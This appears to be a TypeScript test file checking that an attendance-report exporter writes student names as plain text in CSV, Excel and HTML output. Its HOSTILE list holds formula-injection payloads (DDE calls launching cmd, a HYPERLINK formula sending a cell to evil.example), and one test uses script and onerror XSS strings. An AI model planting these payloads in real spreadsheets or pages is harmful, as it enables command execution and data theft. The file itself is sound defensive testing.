import Papa from "papaparse";
import { readSheet } from "read-excel-file/node";
import { describe, expect, it } from "vitest";
import { classSheet } from "#core/domain/reports/classSheet";
import { TEST_FACTS, testClass } from "#core/domain/reports/testReports";
import { peoplesCsv, programsCsv, reportCsv } from "#adapters/export/csv/reportCsv";
import { renderHtml } from "#adapters/export/html/renderHtml";
import { renderXlsx } from "#adapters/export/xlsx/renderXlsx";
import { openedByOffice, hasOffice, sheetXml } from "./office";

/** LibreOffice makes itself a profile first. */
const PATIENCE_MS = 180_000;

/** What has made spreadsheets run something (OWASP, "CSV Injection"), and texts that writers of workbooks trip over. */
const HOSTILE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00A0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '";=1+1',
  'x"\r\n=1+1,"y',
  '=DDE("cmd","/C calc","!A0")',
];
const TRICKY = [
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  "]]>&<c>",
  "ROLLCALL-TEXT:x",
  "a_x000D_b",
  "0042",
];

function tableOf(names: readonly string[]) {
  const { history, students } = testClass(
    names,
    names.map(() => [{ status: "present" as const }]),
  );
  return classSheet({ language: "en", facts: TEST_FACTS, history, students });
}

const csvCells = (bytes: Uint8Array) =>
  Papa.parse<string[]>(new TextDecoder().decode(bytes), { skipEmptyLines: true }).data.flat();

describe("names that a spreadsheet would calculate (trust S10)", () => {
  it("come out of every CSV as text: no cell begins as a formula", () => {
    const files = [
      reportCsv(tableOf(HOSTILE)),
      peoplesCsv([HOSTILE]),
      programsCsv(HOSTILE.map((name) => [name, "", "P"])),
    ];
    for (const file of files) {
      const cells = csvCells(file);
      expect(cells.length).toBeGreaterThan(HOSTILE.length - 1);
      expect(cells.filter((cell) => /^[\s\u00A0]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    }
  });

  it("are no formulas in a workbook, and are kept as they are", async () => {
    const file = await renderXlsx(tableOf([...HOSTILE, ...TRICKY]));
    expect(sheetXml(file)).not.toMatch(/<f[ >]/u);
    const names = (await readSheet(Buffer.from(file))).slice(1, -1).map((row) => row[2]);
    const clean = (text: string) => text.replace(/[\r\n\t]+/gu, " ");
    const trimmed = (texts: readonly unknown[]) => texts.map((text) => String(text).trim());
    expect(trimmed(names)).toEqual(trimmed([...HOSTILE, ...TRICKY].map((text) => clean(text).trim())));
  });

  it("are text in a page too", () => {
    const html = renderHtml(tableOf(["<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`]));
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
  });

  it.skipIf(!hasOffice)(
    "are text to LibreOffice, which opens the workbook and reads every cell right",
    { timeout: PATIENCE_MS },
    async () => {
      const names = [
        ...HOSTILE.filter((name) => !/[\t\r\n]/u.test(name)),
        ...TRICKY,
        "Nguyễn Thị Ánh",
        "Đặng Ưng",
      ];
      const table = tableOf(names);
      const rows = await openedByOffice(await renderXlsx(table), "xlsx");
      expect(rows[0]).toEqual(table.columns.map(({ title, fullTitle }) => fullTitle ?? title));
      const shown = rows.slice(1, 1 + names.length).map((row) => row[2]?.trim());
      expect(shown).toEqual(names.map((name) => name.trim()));
      expect(rows[1]?.slice(-7)).toEqual([
        "1",
        "0",
        "0",
        "0",
        "0",
        "0",
        expect.stringMatching(/^100(\.0)?%$/),
      ]);
    },
  );

  it.skipIf(!hasOffice)("are text to LibreOffice in a CSV as well", { timeout: PATIENCE_MS }, async () => {
    const rows = await openedByOffice(reportCsv(tableOf(HOSTILE)), "csv");
    const names = rows.map((row) => row[2] ?? "");
    expect(names.filter((name) => name === "2" || name.startsWith("#"))).toEqual([]);
    expect(names.slice(1, 4)).toEqual(HOSTILE.slice(0, 3).map((name) => `'${name}`));
  });

  it("says on stderr where there is no LibreOffice to ask", () => {
    if (!hasOffice)
      process.stderr.write("SKIPPED: soffice is not installed; no workbook was opened by LibreOffice.\n");
    expect(typeof hasOffice).toBe("boolean");
  });
});
